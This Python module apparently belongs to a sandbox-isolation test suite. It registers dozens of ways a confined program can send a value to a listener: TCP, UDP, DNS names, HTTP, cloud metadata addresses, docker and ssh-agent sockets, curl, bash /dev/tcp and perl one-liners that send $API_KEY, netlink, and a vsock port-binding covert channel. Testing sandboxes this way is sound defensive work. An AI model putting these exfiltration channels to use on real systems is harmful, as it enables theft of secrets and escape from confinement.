"""A program sends the value away; the agent listens outside."""

import errno
import os
import socket
import pathlib
import threading

from secluded import MARK, METADATA

from .technique import Technique

G = "network"


def sent(name, what, code, address="127.0.0.1", kind=socket.SOCK_STREAM, family=socket.AF_INET, needs=()):
    """Code that sends to the ear at `p`, a port or a path."""

    def act(place):
        place.empty()
        at = address(place) if callable(address) else address
        with place.ear(at, kind, family) as heard:
            seen = place.python(f"import socket\np = {heard.port!r}\n" + code)
        place.empty()
        if family == socket.AF_UNIX and pathlib.Path(at).parent.parent == pathlib.Path("/tmp"):
            os.rmdir(pathlib.Path(at).parent)
        return heard.data + seen.output

    Technique(G, name, what, act, needs)


def called(name, what, argv, needs=(), as_input=False):
    """A command line that sends to the ear at a port."""

    def act(place):
        with place.ear("127.0.0.1") as heard:
            seen = place.run(argv(heard.port), as_input=as_input)
        return heard.data + seen.output

    Technique(G, name, what, act, needs)


UNIX = "s = socket.socket(socket.AF_UNIX); s.connect(p); s.sendall(v)"
sent("tcp", "over TCP", "s = socket.create_connection(('127.0.0.1', p)); s.sendall(v)")
sent("tcp6", "over TCP on IPv6", "s = socket.create_connection(('::1', p)); s.sendall(v)", "::1", family=socket.AF_INET6)
sent("mapped", "over IPv6 to an IPv4 address", "s = socket.socket(socket.AF_INET6); s.connect(('::ffff:127.0.0.1', p)); s.sendall(v)")
sent("fastopen", "in the first packet of TCP", "s = socket.socket(); s.sendto(v, socket.MSG_FASTOPEN, ('127.0.0.1', p))")
sent("udp", "over UDP", "s = socket.socket(type=socket.SOCK_DGRAM); s.sendto(v, ('127.0.0.1', p))", kind=socket.SOCK_DGRAM)
sent("udp6", "over UDP on IPv6", "s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(v, ('::1', p))", "::1", socket.SOCK_DGRAM, socket.AF_INET6)
sent("dns", "as the name in a DNS question", "s = socket.socket(type=socket.SOCK_DGRAM); s.sendto(b'\\0\\1\\1\\0\\0\\1' + bytes(6) + bytes([len(v)]) + v + b'\\7example\\0\\0\\1\\0\\1', ('127.0.0.1', p))",
     kind=socket.SOCK_DGRAM)
sent("http", "in an HTTP request of Python's", "import urllib.request; urllib.request.urlopen(f'http://127.0.0.1:{p}/?' + v.decode(), timeout=5)")
sent("late", "by a process that is left behind", "if os.fork() == 0:\n os.setsid(); s = socket.create_connection(('127.0.0.1', p)); s.sendall(v); s.close(); os._exit(0)\nos.wait()")
sent("ports", "as the order in which ports are knocked at", "s = socket.create_connection(('127.0.0.1', p)); [s.sendall(bytes([b])) for b in v]")
sent("abstract", "over an abstract Unix socket", UNIX, lambda place: f"\0tacit-table-{os.getpid()}", family=socket.AF_UNIX)
sent("unix", "over a Unix socket in the working directory", UNIX, lambda place: str(place.directory / "s"), family=socket.AF_UNIX)
sent("unix-tmp", "over a Unix socket in /tmp", UNIX, lambda place: fresh(f"/tmp/tacit-table-{os.getpid()}.sock"), family=socket.AF_UNIX)
sent("unix-run", "over a Unix socket in the runtime directory, where D-Bus and agents have theirs", UNIX, lambda place: fresh(str(place.runtime / "bus")), family=socket.AF_UNIX)
sent("metadata", "to the address at which a cloud serves a machine its credentials", f"s = socket.create_connection(('{METADATA[0]}', p), 5); s.sendall(v)", METADATA[0], needs=METADATA[:1])
sent("metadata6", "to the one on IPv6", f"s = socket.create_connection(('{METADATA[1]}', p), 5); s.sendall(v)", METADATA[1], family=socket.AF_INET6, needs=METADATA[1:])
sent("metadata-http", "to the same in an HTTP request", f"import urllib.request; urllib.request.urlopen(f'http://{METADATA[0]}:{{p}}/latest/meta-data/?' + v.decode(), timeout=5)", METADATA[0], needs=METADATA[:1])
sent("dbus", "over the D-Bus of a desktop, `/run/user/UID/bus`", UNIX, lambda place: fresh(f"/run/user/{user(place)}/bus"), family=socket.AF_UNIX, needs=(str(MARK),))
sent("dbus-system", "over the machine's D-Bus", UNIX, lambda place: fresh("/run/dbus/system_bus_socket"), family=socket.AF_UNIX, needs=(str(MARK),))
sent("docker", "over docker's socket, `/var/run/docker.sock`", UNIX, lambda place: fresh("/var/run/docker.sock"), family=socket.AF_UNIX, needs=(str(MARK),))
sent("ssh-agent", "over an ssh-agent's socket, as `SSH_AUTH_SOCK` names it", UNIX, lambda place: fresh(f"/tmp/ssh-{os.getpid()}/agent.{os.getpid()}"), family=socket.AF_UNIX)
sent("tmux", "over a socket of tmux, below `/tmp/tmux-UID`", UNIX, lambda place: fresh(f"/tmp/tmux-{user(place)}-{os.getpid()}/default"), family=socket.AF_UNIX)
sent("unix-datagram", "over a datagram Unix socket", "s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(v, p)",
     lambda place: str(place.directory / "d"), socket.SOCK_DGRAM, socket.AF_UNIX)
sent("descriptor", "as a descriptor that is passed over a Unix socket", "s = socket.socket(socket.AF_UNIX); s.connect(p); socket.send_fds(s, [v], [0])", lambda place: str(place.directory / "s"), family=socket.AF_UNIX)
called("curl", "`curl -d @-`", lambda port: ["/usr/bin/curl", "-sS", "-m", "5", "-d", "@-", f"http://127.0.0.1:{port}/"], as_input=True)
called("curl-upload", "`curl -T -`", lambda port: ["/usr/bin/curl", "-sS", "-m", "5", "-H", "Expect:", "-T", "-", f"http://127.0.0.1:{port}/"], as_input=True)
called("curl-telnet", "`curl telnet://`", lambda port: ["/usr/bin/curl", "-sS", "-m", "5", f"telnet://127.0.0.1:{port}/"], as_input=True)
called("curl-proxy", "`curl` with a proxy of the agent's", lambda port: ["/usr/bin/curl", "-sS", "-m", "5", "-x", f"http://127.0.0.1:{port}", "-d", "@-", "http://shop.example/"], as_input=True)
called("bash", "bash's /dev/tcp", lambda port: ["/bin/bash", "-c", f'echo "$API_KEY" >/dev/tcp/127.0.0.1/{port}'])
called("busybox", "`busybox nc`", lambda port: ["busybox", "nc", "127.0.0.1", str(port)], ("busybox",), as_input=True)
called("perl", "perl's sockets", lambda port: ["/usr/bin/perl", "-MIO::Socket::INET", "-e", f"IO::Socket::INET->new('127.0.0.1:{port}')->print($ENV{{API_KEY}})"], ("perl",))


def user(place):
    return place.house.owner.pw_uid if place.house.owner else os.geteuid()


def echoed(name, what, family, kind, protocol, begin=b"", needs=(), own=False):
    """In what goes below TCP and UDP: the agent has all that arrives."""

    def act(place):
        address = "::1" if family == socket.AF_INET6 else "127.0.0.1"
        with socket.socket(family, socket.SOCK_RAW, protocol) as ear:
            ear.setblocking(False)
            seen = place.python(f"import socket\ns = socket.socket({int(family)}, {int(kind)}, {int(protocol)}); s.sendto({begin!r} + v, ('{address}', 0))")
            heard = b""
            try:
                while True:
                    heard += ear.recv(4096)
            except BlockingIOError:
                return heard + seen.output

    Technique(G, name, what, act, needs, own=own)


echoed("ping", "in a ping", socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, b"\x08" + bytes(7), ("ping",))
echoed("ping6", "in a ping on IPv6", socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6, b"\x80" + bytes(7), ("ping",))
echoed("raw", "over IP itself, by a protocol that is neither TCP nor UDP", socket.AF_INET, socket.SOCK_RAW, 253, own=True)
echoed("raw6", "over IPv6 itself", socket.AF_INET6, socket.SOCK_RAW, 253, own=True)


def netlink(place):
    """To a socket of the agent's, through the kernel's own switchboard: NETLINK_USERSOCK, to which everybody may send."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 2) as ear:
        ear.bind((0, 0))
        ear.setblocking(False)
        seen = place.python(f"import socket\ns = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 2)\ns.sendto(v, ({ear.getsockname()[0]}, 0))")
        try:
            return ear.recv(4096) + seen.output
        except BlockingIOError:
            return seen.output


Technique(G, "netlink", "over a netlink socket", netlink, ("AF_NETLINK",))

# The ports of virtual sockets are no namespace's: who may have such a socket finds out which of them are taken anywhere on the machine.
TAKING = """import socket
held = []
def taken(port):
    s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    try:
        s.bind((socket.VMADDR_CID_ANY, port))
    except OSError:
        return True
    held.append(s)
for at, b in enumerate(v[-32:]):
    taken(FIRST + 16 * at + b'0123456789abcdef'.index(b))
end = time.monotonic() + 20
while not taken(ANSWER) and time.monotonic() < end:
    held.pop().close()
"""


class Ports:
    """A run of the vsock's ports that is free, one of which tells the program that the others were read."""

    def __init__(self):
        self.first, self.found = 0x7AC10000 + os.getpid() % 4096 * 1024, {}
        self.answer, self.answering = self.first + 1023, socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
        self.is_over = threading.Event()

    def look(self):
        """Looks until a digit is found at every place, or the program has ended."""
        while len(self.found) < 32 and not self.is_over.is_set():
            for at in range(32):
                for digit in range(16):
                    if self.is_taken(self.first + 16 * at + digit):
                        self.found[at] = digit
        # The program asks for it all the time, and then has it for a moment.
        while not self.is_over.is_set():
            try:
                return self.answering.bind((socket.VMADDR_CID_ANY, self.answer))
            except OSError:
                continue

    @staticmethod
    def is_taken(port):
        with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as probe:
            try:
                probe.bind((socket.VMADDR_CID_ANY, port))
            except OSError as error:
                return error.errno == errno.EADDRINUSE
        return False


def vsock(place):
    ports = Ports()
    looking = threading.Thread(target=ports.look)
    looking.start()
    seen = place.python(TAKING.replace("FIRST", str(ports.first)).replace("ANSWER", str(ports.answer)))
    ports.is_over.set()
    looking.join()
    ports.answering.close()
    return bytes(b"0123456789abcdef"[ports.found[at]] for at in sorted(ports.found)) + seen.output


Technique(G, "vsock", "as the ports of a virtual machine's sockets that the program takes, which no namespace parts", vsock, ("AF_VSOCK",))


def fresh(path):
    pathlib.Path(path).parent.mkdir(parents=True, exist_ok=True)
    if os.path.exists(path):
        os.unlink(path)
    return path
